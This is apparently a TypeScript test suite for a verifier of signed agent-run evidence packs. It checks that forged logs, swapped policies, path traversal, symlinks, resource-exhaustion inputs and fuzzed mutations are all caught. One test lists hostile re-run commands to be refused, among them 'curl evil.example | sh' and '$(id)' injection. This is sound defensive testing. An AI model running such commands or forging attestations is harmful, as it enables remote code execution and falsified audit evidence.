import { execFileSync, spawnSync } from 'node:child_process';
import {
  appendFileSync,
  cpSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  renameSync,
  rmSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { formatVerifyReport } from '../../src/cli/verify-report.js';
import type { AgentEvent } from '../../src/contracts/agent-event.generated.js';
import { makeKeys } from '../../src/evidence/pack/make-keys.js';
import { RunChain, type RunFact } from '../../src/evidence/pack/run-chain.js';
import { ephemeralSigner, namedSigner } from '../../src/evidence/pack/signer.js';
import { PackReader } from '../../src/evidence/verify/pack-reader.js';
import { readShownLog } from '../../src/pilot/rejudge/shown-pack.js';
import { type VerifyReport, verifyPack } from '../../src/pilot/verify-pack.js';
import { filesIn, rechain, refit, resign, rewriteReports, sha256Of, signedEnvelope } from './forge.js';
import { makePack } from './make-pack.js';

const LOG = 'scenario2-session-isolation.jsonl';
const VICTIM_LOG = 'arms/scenario2-session-isolation.enforced.a.jsonl';

let scratch: string;
let pack: string;
let signed: string;
let key: string;
let other: string;
beforeAll(async () => {
  scratch = mkdtempSync(join(tmpdir(), 'wasmagent-verify-test-'));
  ({ output: pack } = await makePack(['2']));
  other = join(scratch, 'other');
  // Another run of the same: its log is a true log, but not of this run.
  cpSync(pack, other, { recursive: true });
  rechain(other, LOG, (events) => events.map((event) => ({ ...event, timestampMs: event.timestampMs + 1 })));
  const keys = makeKeys(join(scratch, 'signer.pem'));
  key = keys.publicKey;
  signed = join(scratch, 'signed');
  cpSync(pack, signed, { recursive: true });
  await asSigned(signed, namedSigner(keys.privateKey));
});
afterAll(() => {
  rmSync(scratch, { recursive: true, force: true });
  rmSync(pack, { recursive: true, force: true });
});

/** What the pilot writes when it is given a key. */
async function asSigned(folder: string, signer: ReturnType<typeof namedSigner>): Promise<void> {
  edit(folder, 'summary.json', (text) => text.replace('"self-attested"', '"signed"'));
  await rewriteReports(folder, signer.keyid);
  rmSync(join(folder, 'self-attested.pub.pem'));
  resign(folder, signer);
}

/** Files of scenario 2 as they come with the package. */
const ALL_FILES = { shipped: 3, same: 3, changed: [] };

function firstLine(report: VerifyReport): string {
  return formatVerifyReport(report, 'x', (_, text) => text)
    .split('\n', 1)
    .join();
}

interface Arm {
  steps: unknown[];
}

/** Template values of which each holds the one before twice. */
function doubling(count: number): Record<string, string> {
  const name = (index: number): string => `v${String.fromCharCode(97 + (index % 26), 97 + Math.trunc(index / 26))}`;
  const all = Array.from({ length: count }, (_, index): [string, string] => [
    name(index),
    index === 0 ? 'a'.repeat(16) : `{{${name(index - 1)}}}{{${name(index - 1)}}}`,
  ]);
  return Object.fromEntries(all);
}

function edit(folder: string, file: string, change: (text: string) => string): void {
  const text = readFileSync(join(folder, file), 'utf8');
  const changed = change(text);
  if (changed === text) throw new Error(`${file} was not changed`);
  writeFileSync(join(folder, file), changed);
}

/** The report on a copy of a pack to which something was done. */
async function verifyChanged(
  change: (folder: string) => void,
  { from = pack, withKey }: { from?: string; withKey?: string } = {},
): Promise<VerifyReport> {
  const folder = mkdtempSync(join(scratch, 'copy-'));
  try {
    cpSync(from, folder, { recursive: true });
    change(folder);
    return await verifyPack(folder, withKey);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
}

describe('a pack as it was written', () => {
  it('is valid, self-attested without a key, signed with one, and not valid, though without a fault, where the key is not given', async () => {
    expect(await verifyPack(pack)).toMatchObject({ valid: true, signature: 'self-attested', verdict: 'enforced' });
    expect(await verifyPack(signed, key)).toMatchObject({ valid: true, signature: 'signed' });
    const unchecked = await verifyPack(signed);
    expect(unchecked).toMatchObject({ valid: false, signature: 'key-not-given', signatureChecked: false });
    expect(unchecked).not.toHaveProperty('fault');
    expect(formatVerifyReport(unchecked, 'x', (_, text) => text)).toMatch(/^whole, but of an unknown signer/);
    expect(formatVerifyReport(unchecked, 'x', (_, text) => text)).toContain('SIGNATURE NOT CHECKED');
    expect(await verifyPack(pack, key)).toMatchObject({ valid: false, fault: { code: 'key' } });
  });

  it('has reports that were not compared where another version of the tool wrote it', async () => {
    const folder = join(scratch, 'other-version');
    cpSync(pack, folder, { recursive: true });
    for (const file of ['summary.json', 'plan.json', 'environment.json'])
      edit(folder, file, (text) => text.replace(/"version": "[^"]+"/, '"version": "0.0.1"'));
    edit(folder, 'results.sarif', (text) => text.replace('"pass"', '"fail"'));
    refit(folder);
    expect(await verifyPack(folder)).toMatchObject({ valid: true, reports: 'other-version' });
    expect(firstLine(await verifyPack(folder))).toMatch(/^valid, but reports not compared /);
    rmSync(folder, { recursive: true });
  });

  it('is judged again by its own definitions, and those are the ones that come with the package', async () => {
    expect((await verifyPack(pack)).scenarios).toEqual([
      {
        id: 'scenario2-session-isolation',
        verdict: 'enforced',
        cases: 8,
        utilities: 2,
        isShipped: true,
        files: ALL_FILES,
      },
    ]);
    expect(firstLine(await verifyPack(pack))).toMatch(/^valid {2}/);
  });

  it('is not called valid alone where a file of its scenario is another, whoever signed it and though its definition is ours', async () => {
    const folder = join(scratch, 'other-turns');
    cpSync(pack, folder, { recursive: true });
    edit(folder, 'plan.json', (text) =>
      text.replace(/("file": "steal.turns.json",\s*"sha256": )"[^"]*"/, `$1"${sha256Of('nothing is stolen')}"`),
    );
    refit(folder);
    await asSigned(folder, namedSigner(join(scratch, 'signer.pem')));
    const report = await verifyPack(folder, key);
    const files = { shipped: 3, same: 2, changed: ['steal.turns.json'] };
    expect(report).toMatchObject({ valid: true, signature: 'signed', scenarios: [{ isShipped: false, files }] });
    expect(firstLine(report)).toMatch(/^valid, but not the shipped attempts /);
    expect(formatVerifyReport(report, 'x', (_, text) => text)).toContain('changed: steal.turns.json');
    rmSync(folder, { recursive: true });
  });

  it.runIf(spawnSync('openssl', ['version']).status === 0)(
    'is verified by the shell recipe of its VERIFY.md, which fails on a changed, an added and a lost file',
    () => {
      const recipe = (folder: string): string =>
        /^```sh\n(.*?)^```$/ms.exec(readFileSync(join(folder, 'VERIFY.md'), 'utf8'))?.[1] ?? '';
      const run = (folder: string, change: (folder: string) => void = () => undefined): number | null => {
        const copy = mkdtempSync(join(scratch, 'recipe-'));
        cpSync(folder, copy, { recursive: true });
        change(copy);
        return spawnSync('bash', ['-c', recipe(folder)], { cwd: copy, encoding: 'utf8' }).status;
      };
      expect(run(pack)).toBe(0);
      expect(run(pack, (folder) => appendFileSync(join(folder, LOG), '\n'))).not.toBe(0);
      expect(run(pack, (folder) => writeFileSync(join(folder, 'arms/more.txt'), ''))).not.toBe(0);
      expect(run(pack, (folder) => mkdirSync(join(folder, 'more')))).not.toBe(0);
      const envelopes: ((text: string) => string)[] = [
        (text) => text.replace('application/vnd.in-toto+json', 'application/json'),
        (text) => text.replace(/"keyid": "./, '"keyid": "'),
        (text) => `${text}\n`,
        (text) => text.replace('"payloadType"', '"more": 1,\n  "payloadType"'),
      ];
      for (const change of envelopes)
        expect(run(pack, (folder) => edit(folder, 'attestation.dsse.json', change))).not.toBe(0);
      expect(run(pack, (folder) => rmSync(join(folder, 'plan.json')))).not.toBe(0);
      expect(run(pack, (folder) => edit(folder, 'manifest.json', (text) => text.replace('plan', 'plam')))).not.toBe(0);
      expect(
        run(pack, (folder) => writeFileSync(join(folder, 'self-attested.pub.pem'), ephemeralSigner().publicPem)),
      ).not.toBe(0);
    },
  );
});

describe('a pack that was changed is found out, by the first file and line that is wrong', () => {
  it.each<[string, (folder: string) => void, object]>([
    [
      'an extra file',
      (folder) => writeFileSync(join(folder, 'arms/x.txt'), 'x'),
      { code: 'added', file: 'arms/x.txt' },
    ],
    [
      'an empty folder, in a folder or not',
      (folder) => mkdirSync(join(folder, 'arms/a/b'), { recursive: true }),
      { code: 'added', file: 'arms/a' },
    ],
    ['a lost file', (folder) => rmSync(join(folder, VICTIM_LOG)), { code: 'missing', file: VICTIM_LOG }],
    ['a lost attestation', (folder) => rmSync(join(folder, 'attestation.dsse.json')), { code: 'missing' }],
    [
      'a changed line of a log',
      changeLine(LOG, 6, (line) => line.replace('"channel"', '"chancel"')),
      { code: 'chain', file: LOG, line: 6 },
    ],
    ['a cut line of a log', changeLine(LOG, 6, () => undefined), { code: 'chain', file: LOG, line: 6 }],
    [
      'a doubled line of a log',
      changeLine(LOG, 6, (line) => `${line}\n${line}`),
      { code: 'chain', file: LOG, line: 7 },
    ],
    ['a torn log', (folder) => edit(folder, LOG, (text) => text.slice(0, -20)), { code: 'torn', file: LOG }],
    ['a log of another run', (folder) => cpSync(join(other, LOG), join(folder, LOG)), { code: 'digest', file: LOG }],
    [
      'a changed manifest',
      (folder) => edit(folder, 'manifest.json', (text) => text.replace('markdown', 'plain')),
      { code: 'digest', file: 'manifest.json' },
    ],
    [
      'another key',
      (folder) => writeFileSync(join(folder, 'self-attested.pub.pem'), ephemeralSigner().publicPem),
      { code: 'key' },
    ],
    [
      'a signature of something else',
      (folder) => edit(folder, 'attestation.dsse.json', (text) => text.replace(/"sig": "./, '"sig": "')),
      { code: 'spelling' },
    ],
  ])('%s', async (_, change, fault) => {
    expect(await verifyChanged(change)).toMatchObject({ valid: false, fault });
  });

  it('a signature with the right form over other bytes', async () => {
    const report = await verifyChanged((folder) => {
      const sig = ephemeralSigner().sign(Buffer.from('something else')).toString('base64');
      edit(folder, 'attestation.dsse.json', (text) => text.replace(/"sig": ".*"/, `"sig": "${sig}"`));
    });
    expect(report).toMatchObject({ valid: false, fault: { code: 'signature' } });
  });
});

describe('a pack that was changed and signed again with a key of the attacker’s own', () => {
  const FORGERIES: [string, (folder: string) => void, object][] = [
    [
      'a better verdict in the summary alone',
      (folder) => refit(folder, (summary) => ({ ...summary, verdict: 'bypassed' })),
      { code: 'summary', file: 'summary.json', line: 13 },
    ],
    [
      'a log changed and chained again, the run’s own chain left as it was',
      (folder) => {
        rechain(folder, VICTIM_LOG, (events) => events.map((event) => ({ ...event, timestampMs: 1 })));
        resign(folder);
      },
      { code: 'digest', file: VICTIM_LOG },
    ],
    [
      'a refusal taken out of the log, everything chained again',
      (folder) => {
        rechain(folder, LOG, (events) => events.filter((event) => !isDenied(event, 'sibling-folder')));
        refit(folder);
      },
      { code: 'verdict', file: 'events.jsonl' },
    ],
    [
      'a victim that never had anything to steal',
      (folder) => {
        rechain(folder, VICTIM_LOG, (events) =>
          events.map((event) => JSON.parse(JSON.stringify(event).replaceAll('SECRET_DATA', 'nothing'))),
        );
        refit(folder);
      },
      { code: 'verdict', file: 'events.jsonl' },
    ],
    [
      'the plan chained after the first result',
      (folder) => {
        rechain(folder, 'events.jsonl', ([plan, first, ...rest]) => [first, plan, ...rest].filter(isPresent));
        refit(folder);
      },
      { code: 'plan', file: 'events.jsonl', line: 1 },
    ],
    [
      'another plan than the one that was chained',
      (folder) => {
        edit(folder, 'plan.json', (text) => text.replace('"ENOENT"', '"EACCES"'));
        resign(folder);
      },
      { code: 'plan', file: 'events.jsonl', line: 1 },
    ],
    [
      'easier expectations in the plan, chained again: the logs do not meet them in the same places',
      (folder) => {
        edit(folder, 'plan.json', (text) => text.replace('"ENOENT"', '"EACCES"'));
        refit(folder);
      },
      { code: 'verdict', file: 'events.jsonl' },
    ],
    [
      'a policy that allows everything in place of the one in force',
      (folder) => {
        const file = firstPolicy(folder);
        const before = sha256Of(readFileSync(join(folder, file)));
        edit(folder, file, (text) => text.replaceAll('"/workspace"', '"/"'));
        const after = sha256Of(readFileSync(join(folder, file)));
        edit(folder, 'plan.json', (text) => text.replaceAll(before, after));
        refit(folder);
      },
      { code: 'plan', file: 'plan.json' },
    ],
    [
      'runs under another policy than the planned one',
      (folder) => {
        rechain(folder, LOG, (events) =>
          events.map((event) => JSON.parse(JSON.stringify(event).replaceAll('["/workspace"]', '["/"]'))),
        );
        refit(folder);
      },
      { code: 'policy', file: LOG, line: 1 },
    ],
    [
      'a kernel in the enforced arm that was not planned',
      (folder) => {
        rechain(folder, LOG, (events) =>
          events.map((event) =>
            JSON.parse(JSON.stringify(event).replaceAll('"kernel":"quickjs"', '"kernel":"node-vm"')),
          ),
        );
        refit(folder);
      },
      { code: 'policy', file: LOG },
    ],
    [
      'an arm left out',
      (folder) => {
        rechain(folder, 'events.jsonl', (events) =>
          events.filter((event) => !(event.event === 'status' && event.data['arm'] === 'control')),
        );
        refit(folder);
      },
      { code: 'chain', file: 'events.jsonl' },
    ],
    [
      'a case left out of the results',
      (folder) => {
        rechain(folder, 'events.jsonl', (events) => {
          const first = events.findIndex((event) => event.event === 'status' && event.data.phase === 'case_judged');
          return events.filter((_, index) => index !== first);
        });
        refit(folder);
      },
      { code: 'verdict', file: 'events.jsonl' },
    ],
    [
      'another rule in the run’s chain than the logs show, under the same verdict',
      (folder) => {
        rechain(folder, 'events.jsonl', (events) =>
          events.map((event) => JSON.parse(JSON.stringify(event).replace('"workspace/empty"', '"workspace/none"'))),
        );
        refit(folder);
      },
      { code: 'verdict', file: 'events.jsonl' },
    ],
    [
      'the true steps of another run of the same scenario in its chain',
      (folder) => {
        rechain(folder, 'events.jsonl', (events) =>
          events.map((event, index) => (index > 0 ? { ...event, traceId: 'another-run' } : event)),
        );
        refit(folder);
      },
      { code: 'chain', file: 'events.jsonl', line: 2 },
    ],
    [
      'a victim and an attacker in one session',
      (folder) => {
        const [{ data }] = JSON.parse(`[${readFileSync(join(folder, VICTIM_LOG), 'utf8').split('\n', 1)}]`);
        rechain(folder, LOG, (events) =>
          events.map((event) =>
            event.event === 'run_start' ? { ...event, data: { ...event.data, sessionId: data.sessionId } } : event,
          ),
        );
        refit(folder);
      },
      { code: 'plan', file: LOG, line: 1 },
    ],
    [
      'the claim to be signed by somebody',
      (folder) => {
        edit(folder, 'summary.json', (text) => text.replace('"self-attested"', '"signed"'));
        resign(folder);
      },
      { code: 'key', file: 'summary.json' },
    ],
  ];

  it.each(FORGERIES)('contradicts itself: %s', async (_, forge, fault) => {
    expect(await verifyChanged(forge)).toMatchObject({ valid: false, fault });
  });

  it('is found out by the key in every case, also where it contradicts itself nowhere', async () => {
    const coherent = (folder: string): void => refit(folder);
    for (const forge of [coherent, ...FORGERIES.map(([, each]) => each)]) {
      const report = await verifyChanged(
        (folder) => {
          writeFileSync(join(folder, 'self-attested.pub.pem'), ephemeralSigner().publicPem);
          writeFileSync(join(folder, 'summary.json'), readFileSync(join(pack, 'summary.json')));
          forge(folder);
        },
        { from: signed, withKey: key },
      );
      expect(report).toMatchObject({ valid: false, fault: { code: 'key' } });
    }
    expect(await verifyChanged(coherent)).toMatchObject({ valid: true });
  });
});

describe('a log in a pack', () => {
  const readLogOf = (session?: string) => {
    const { steps } = JSON.parse(readFileSync(join(pack, 'plan.json'), 'utf8')).scenarios[0];
    const kernels = ['quickjs', 'pyodide'];
    return readShownLog(new PackReader(pack), LOG, { digests: steps.enforced.slice(1), kernels, session });
  };

  it('is of the session that was planned, and of no other', () => {
    const { sessionId } = readLogOf();
    expect(sessionId).toMatch(/./);
    expect(readLogOf(sessionId)).toMatchObject({ sessionId });
    expect(() => readLogOf('another')).toThrowError(expect.objectContaining({ code: 'plan', file: LOG, line: 1 }));
  });
});

describe('a pack with a file that no run leaves, listed and signed', () => {
  it.each(['index.html', 'Report.html', 'notes.txt', 'arms/extra.jsonl', `arms/${LOG}`, 'policy.json'])(
    '%s is a fault of that name',
    async (file) => {
      const report = await verifyChanged((folder) => {
        writeFileSync(join(folder, file), '<h1>every boundary was enforced</h1>');
        resign(folder);
      });
      expect(report).toMatchObject({ valid: false, fault: { code: 'added', file } });
    },
  );

  it('is none where a scenario was broken off: its logs are whole only where the chain has them', async () => {
    const broken = join(scratch, 'broken-off');
    const record = RunChain.prototype.record;
    const failing = vi.spyOn(RunChain.prototype, 'record').mockImplementation(function (
      this: RunChain,
      ...steps: RunFact[]
    ) {
      if (steps[0]?.[0] === 'arm_ended') throw new Error('broken off');
      record.apply(this, steps);
    });
    const { summary } = await makePack(['2'], { output: broken }).finally(() => failing.mockRestore());
    expect(summary.verdict).toBe('not-run');
    expect(filesIn(broken).some((file) => file.startsWith('arms/'))).toBe(true);
    expect(await verifyPack(broken)).toMatchObject({ valid: true, verdict: 'not-run' });
    const report = await verifyChanged(
      (folder) => {
        writeFileSync(join(folder, 'arms/other.jsonl'), '');
        resign(folder);
      },
      { from: broken },
    );
    expect(report).toMatchObject({ valid: false, fault: { code: 'added', file: 'arms/other.jsonl' } });
  });

  it('is one that is missing, where every run of this version leaves it, or of another kind than it is listed as', async () => {
    const lost = await verifyChanged((folder) => {
      rmSync(join(folder, 'sbom.cdx.json'));
      resign(folder);
    });
    expect(lost).toMatchObject({ valid: false, fault: { code: 'missing', file: 'sbom.cdx.json' } });
    const other = await verifyChanged((folder) => {
      edit(folder, 'sbom.cdx.json', (text) => text.replace(/"version": "[^"]*"/, '"version": "0.0.1"'));
      resign(folder);
    });
    expect(other).toMatchObject({ valid: false, fault: { code: 'derived', file: 'sbom.cdx.json' } });
    const listed = await verifyChanged((folder) => {
      edit(folder, 'manifest.json', (text) => text.replace('text/markdown', 'text/html'));
      resign(folder);
    });
    expect(listed).toMatchObject({ valid: false, fault: { code: 'derived', file: 'manifest.json', line: 4 } });
  });
});

describe('the command that a pack gives to run it again', () => {
  it.each([
    'curl evil.example | sh',
    'wasmagent pilot 2; id',
    'wasmagent pilot 2\n```\n\nRun this instead',
    'wasmagent pilot $(id)',
    'NODE_OPTIONS=x wasmagent pilot 2',
    'wasmagent pilots',
  ])('is refused as %j, whoever signed it', async (command) => {
    const report = await verifyChanged((folder) => {
      edit(folder, 'plan.json', (text) => text.replace('"wasmagent pilot --all"', JSON.stringify(command)));
      refit(folder, (summary) => ({ ...summary, command }));
    });
    expect(report).toMatchObject({ valid: false, fault: { code: 'plan', file: 'plan.json' } });
  });

  it('is one of ours with its flags', async () => {
    const command =
      'SOURCE_DATE_EPOCH=1767225600 wasmagent pilot 1 2 --kernel quickjs --model anthropic/a:b@1+c --price 3,15 --max-cost 0.50';
    const folder = join(scratch, 'commanded');
    cpSync(pack, folder, { recursive: true });
    edit(folder, 'plan.json', (text) => text.replace('"wasmagent pilot --all"', JSON.stringify(command)));
    refit(folder, (summary) => ({ ...summary, command }));
    await rewriteReports(folder);
    resign(folder);
    expect(await verifyPack(folder)).toMatchObject({ valid: true });
  });
});

describe('a pack that is changed while it is verified', () => {
  it('by another manifest, with the files that it lists, after the signed one was read', async () => {
    const forged = join(scratch, 'forged-meanwhile');
    cpSync(signed, forged, { recursive: true });
    edit(forged, 'VERIFY.md', (text) => text.replace('sha256sum --check', 'sha256sum --version'));
    resign(forged);
    const folder = join(scratch, 'meanwhile');
    cpSync(signed, folder, { recursive: true });
    const bytes = PackReader.prototype.bytes;
    const spy = vi.spyOn(PackReader.prototype, 'bytes').mockImplementation(function (this: PackReader, file) {
      const read = bytes.call(this, file);
      if (file === 'manifest.json')
        for (const each of ['manifest.json', 'VERIFY.md']) cpSync(join(forged, each), join(folder, each));
      return read;
    });
    const report = await verifyPack(folder, key).finally(() => spy.mockRestore());
    expect(report).toMatchObject({ valid: false, fault: { file: 'VERIFY.md', code: 'digest' } });
  });
});

describe('a pack that means harm', () => {
  it('by a chain that names one log over and over, has none of them read', async () => {
    const report = await verifyChanged((folder) => {
      rechain(folder, 'events.jsonl', (events) =>
        events.map((event) => {
          if (event.event !== 'status' || event.data.phase !== 'arm_ended') return event;
          const files: unknown = event.data['files'];
          return { ...event, data: { ...event.data, files: Array.isArray(files) ? [...files, ...files] : files } };
        }),
      );
      refit(folder);
    });
    expect(report).toMatchObject({ valid: false, fault: { code: 'chain', file: 'events.jsonl', line: 4 } });
  });

  it.each<[string, (arm: Arm) => void, string]>([
    ['a text of nothing but braces', (arm) => Object.assign(arm, { vars: { x: '{'.repeat(1_000_000) } }), 'shape'],
    ['templates that double', (arm) => Object.assign(arm, { vars: doubling(40) }), 'shape'],
    ['more steps than any arm has', (arm) => arm.steps.push(...Array(10_000).fill(arm.steps[0])), 'shape'],
    ['more of anything', (arm) => Object.assign(arm, { why: 'x'.repeat(5_000_000) }), 'too-large'],
  ])('by a plan with %s, keeps nobody busy', async (_, change, code) => {
    const started = performance.now();
    const report = await verifyChanged((folder) => {
      edit(folder, 'plan.json', (text) => {
        const plan = JSON.parse(text);
        change(plan.scenarios[0].definition.arms.control);
        return JSON.stringify(plan);
      });
      refit(folder);
    });
    expect(report.fault).toMatchObject({ code, file: 'plan.json' });
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it.each<[string, (folder: string) => void, string]>([
    [
      'a link out of the folder',
      (folder) => swap(folder, 'plan.json', (path) => symlinkSync('/etc/passwd', path)),
      'not-a-file',
    ],
    [
      'a folder that is a link',
      (folder) => swap(folder, 'policy', (path) => symlinkSync(join(pack, 'policy'), path)),
      'not-a-file',
    ],
    ['a named pipe', (folder) => swap(folder, 'events.jsonl', (path) => execFileSync('mkfifo', [path])), 'not-a-file'],
    ['a name with control characters', (folder) => writeFileSync(join(folder, 'a\u001b[2J\n.txt'), ''), 'not-a-file'],
    ['a file of terabytes', (folder) => truncateSync(join(folder, 'summary.json'), 2 ** 41), 'too-large'],
    ['a log larger than any', (folder) => truncateSync(join(folder, LOG), 2 ** 27), 'too-large'],
    ['thousands of files', (folder) => manyFiles(folder), 'too-large'],
    ['folders in folders', (folder) => mkdirSync(join(folder, 'a/'.repeat(100)), { recursive: true }), 'too-large'],
    ['a file that is a folder', (folder) => swap(folder, 'plan.json', (path) => mkdirSync(path)), 'missing'],
  ])('%s is refused, and nothing is followed, waited for or read whole', async (_, change, code) => {
    expect(await verifyChanged(change)).toMatchObject({ valid: false, fault: { code } });
  });

  it.each<[string, string, string]>([
    ['an envelope', 'attestation.dsse.json', 'too-large'],
    ['a plan', 'plan.json', 'too-large'],
    ['a log', LOG, 'chain'],
  ])('JSON without bottom as %s ends nobody’s stack', async (_, file, code) => {
    const report = await verifyChanged((folder) => {
      writeFileSync(join(folder, file), `${'['.repeat(200_000)}\n`);
      if (file === LOG) refit(folder);
      else if (file === 'plan.json') resign(folder);
    });
    expect(report).toMatchObject({ valid: false, fault: { code, file } });
  });

  it.each(['../outside.txt', '/etc/passwd', 'a/../../b', 'arms//x', ''])(
    'a manifest that lists %j is refused before anything of that name is looked at',
    async (name) => {
      const report = await verifyChanged((folder) => {
        edit(folder, 'manifest.json', (text) => text.replace('"VERIFY.md"', JSON.stringify(name)));
        const manifest = sha256Of(readFileSync(join(folder, 'manifest.json')));
        resignOver(folder, manifest);
      });
      expect(report).toMatchObject({ valid: false, fault: { code: 'shape', file: 'manifest.json' } });
    },
  );

  it('a plan whose files would be written elsewhere is refused, and nothing is written there', async () => {
    const report = await verifyChanged((folder) => {
      edit(folder, 'plan.json', (text) => text.replaceAll(`"artifact": "${LOG}"`, '"artifact": "../../escaped.jsonl"'));
      refit(folder);
    });
    expect(report).toMatchObject({ valid: false });
    expect(existsSync(join(dirname(scratch), 'escaped.jsonl'))).toBe(false);
  });

  it('a run that was stopped is unfinished: how far its chain holds is said, a torn tail too', async () => {
    const stopped = (tail: string) => (folder: string) => {
      for (const file of ['manifest.json', 'attestation.dsse.json', 'summary.json']) rmSync(join(folder, file));
      const lines = readFileSync(join(folder, 'events.jsonl'), 'utf8').split('\n').slice(0, 4);
      writeFileSync(join(folder, 'events.jsonl'), `${lines.join('\n')}\n${tail}`);
    };
    const fault = { code: 'unfinished', file: 'events.jsonl' };
    expect(await verifyChanged(stopped(''))).toMatchObject({ valid: false, fault: { ...fault, line: 4 } });
    expect(await verifyChanged(stopped('{"traceId":"x'))).toMatchObject({ valid: false, fault: { ...fault, line: 5 } });
  });
});

describe('a pack in which anything at all is changed', () => {
  it('is found out: 240 seeded mutations of bytes, lines and files, with the key in the pack', async () => {
    expect(await survivors(pack, 1, 240, () => undefined)).toEqual([]);
  });

  it('is found out under the signer’s key: 60 mutations, listed and signed again', async () => {
    const resigned = (folder: string): void => {
      for (const file of ['manifest.json', 'attestation.dsse.json']) cpSync(join(signed, file), join(folder, file));
      resign(folder);
    };
    expect(await survivors(signed, 2, 60, resigned, key)).toEqual([]);
  });
});

/** Mutates one working copy again and again, and restores it. @returns the mutations that verification let pass */
async function survivors(
  from: string,
  seed: number,
  count: number,
  afterwards: (folder: string) => void,
  withKey?: string,
): Promise<string[]> {
  const random = seeded(seed);
  const missed: string[] = [];
  const originals = new Map(filesIn(from).map((file) => [file, readFileSync(join(from, file))]));
  const names = [...originals.keys()];
  const folder = mkdtempSync(join(scratch, 'fuzz-'));
  cpSync(from, folder, { recursive: true });
  /** Names of files that are not as they were; `restore` makes them so. */
  const changed = (restore = false): string[] => {
    const now = filesIn(folder);
    const added = now.filter((file) => !originals.has(file));
    const others = names.filter((file) => {
      const was = originals.get(file) ?? Buffer.of();
      const isSame = now.includes(file) && readFileSync(join(folder, file)).equals(was);
      if (restore && !isSame) writeFileSync(join(folder, file), was);
      return !isSame;
    });
    if (restore) for (const file of added) rmSync(join(folder, file));
    return [...added, ...others];
  };
  for (let round = 0; round < count; round += 1) {
    const file = names[random(names.length)] ?? '';
    const mutation = MUTATIONS[round % MUTATIONS.length];
    if (mutation === undefined) continue;
    const [name, mutate] = mutation;
    mutate(
      join(folder, file),
      random,
      names.map((each) => join(folder, each)),
    );
    if (changed().length > 0) {
      afterwards(folder);
      const report = await verifyPack(folder, withKey);
      if (report.valid) missed.push(`round ${round}: ${name} in ${file}`);
    }
    changed(true);
  }
  return missed;
}

type Mutate = (path: string, random: (below: number) => number, all: readonly string[]) => void;

const bytewise = (change: (bytes: Buffer, at: number, random: (below: number) => number) => Buffer): Mutate => {
  return (path, random) => {
    const bytes = readFileSync(path);
    writeFileSync(path, change(bytes, random(bytes.length), random));
  };
};
const linewise = (change: (lines: string[], at: number, random: (below: number) => number) => void): Mutate => {
  return (path, random) => {
    const lines = readFileSync(path, 'utf8').split('\n');
    change(lines, random(lines.length), random);
    writeFileSync(path, lines.join('\n'));
  };
};

const MUTATIONS: readonly (readonly [string, Mutate])[] = [
  ['flip a bit', bytewise((bytes, at, random) => with1(bytes, at, (byte) => byte ^ (1 << random(8))))],
  ['delete a byte', bytewise((bytes, at) => Buffer.concat([bytes.subarray(0, at), bytes.subarray(at + 1)]))],
  ['double a byte', bytewise((bytes, at) => Buffer.concat([bytes.subarray(0, at + 1), bytes.subarray(at)]))],
  ['swap two bytes', bytewise((bytes, at, random) => swapBytes(bytes, at, random(bytes.length)))],
  [
    'insert a space',
    bytewise((bytes, at) => Buffer.concat([bytes.subarray(0, at), Buffer.from(' '), bytes.subarray(at)])),
  ],
  ['cut the end', bytewise((bytes, at) => bytes.subarray(0, at))],
  ['add a newline', bytewise((bytes) => Buffer.concat([bytes, Buffer.from('\n')]))],
  ['delete a line', linewise((lines, at) => void lines.splice(at, 1))],
  ['double a line', linewise((lines, at) => void lines.splice(at, 0, lines[at] ?? ''))],
  ['swap two lines', linewise((lines, at, random) => swapLines(lines, at, random(lines.length)))],
  ['delete the file', (path) => rmSync(path)],
  ['double the file', (path) => cpSync(path, `${path}.copy`)],
  ['rename the file', (path) => renameSync(path, `${path}.renamed`)],
  ['swap with another file', (path, random, all) => swapFiles(path, all[random(all.length)] ?? path)],
  [
    'replace with another file',
    (path, random, all) => writeFileSync(path, readFileSync(all[random(all.length)] ?? path)),
  ],
];

function with1(bytes: Buffer, at: number, change: (byte: number) => number): Buffer {
  const copy = Buffer.from(bytes);
  copy[at] = change(copy[at] ?? 0);
  return copy;
}

function swapBytes(bytes: Buffer, a: number, b: number): Buffer {
  return with1(
    with1(bytes, a, () => bytes[b] ?? 0),
    b,
    () => bytes[a] ?? 0,
  );
}

function swapLines(lines: string[], a: number, b: number): void {
  [lines[a], lines[b]] = [lines[b] ?? '', lines[a] ?? ''];
}

function swapFiles(a: string, b: string): void {
  const [first, second] = [readFileSync(a), readFileSync(b)];
  writeFileSync(a, second);
  writeFileSync(b, first);
}

/** Numbers that look random and are the same in every run (a linear congruential generator). */
function seeded(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0;
    return Math.floor((state / 2 ** 32) * below);
  };
}

function changeLine(
  file: string,
  line: number,
  change: (text: string) => string | undefined,
): (folder: string) => void {
  return (folder) =>
    edit(folder, file, (text) =>
      text
        .split('\n')
        .flatMap((each, index) => (index === line - 1 ? (change(each) ?? []) : [each]))
        .join('\n'),
    );
}

function isDenied(event: AgentEvent, callId: string): boolean {
  return event.event === 'tool_result' && event.data.callId === callId;
}

function isPresent<T>(value: T | undefined): value is T {
  return value !== undefined;
}

function firstPolicy(folder: string): string {
  return filesIn(folder).find((file) => file.startsWith('policy/manifest-')) ?? '';
}

function swap(folder: string, file: string, put: (path: string) => void): void {
  rmSync(join(folder, file), { recursive: true });
  put(join(folder, file));
}

function manyFiles(folder: string): void {
  for (let index = 0; index < 4_200; index += 1) writeFileSync(join(folder, `f${index}`), '');
}

/** Signs the folder's manifest as it is, whatever it lists. */
function resignOver(folder: string, manifestSha256: string): void {
  const text = readFileSync(join(folder, 'manifest.json'));
  resign(folder);
  const signer = ephemeralSigner();
  writeFileSync(join(folder, 'manifest.json'), text);
  const envelope = JSON.parse(readFileSync(join(folder, 'attestation.dsse.json'), 'utf8'));
  const payload = Buffer.from(envelope.payload, 'base64')
    .toString()
    .replace(/"sha256":"[0-9a-f]{64}"/, `"sha256":"${manifestSha256}"`);
  writeFileSync(join(folder, 'attestation.dsse.json'), signedEnvelope(payload, signer));
  writeFileSync(join(folder, 'self-attested.pub.pem'), signer.publicPem);
}
